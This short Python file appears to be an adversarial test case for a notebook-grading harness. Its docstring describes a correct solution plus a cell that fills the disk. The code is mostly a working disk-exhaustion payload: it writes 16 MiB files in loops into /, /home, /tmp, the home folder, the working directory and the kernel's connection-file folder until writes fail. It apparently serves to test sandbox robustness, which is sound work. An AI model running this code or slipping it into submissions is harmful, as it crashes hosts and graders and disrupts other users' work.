"""A correct notebook plus a cell that writes until the disk is full, everywhere it can write.

base: solution
how: cell
score: 0
status: not graded
"""
import os
import sys

chunk = b"0" * 2**20
places = ["/", "/home", ".", "/tmp", os.path.expanduser("~")]
if "-f" in sys.argv:   # the folder of the kernel's connection file
    places.append(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]))
for place in places:
    for n in range(100000):
        try:
            with open(os.path.join(place, f"fill-{n}.bin"), "wb") as f:
                for _ in range(16):
                    f.write(chunk)
        except OSError:
            break
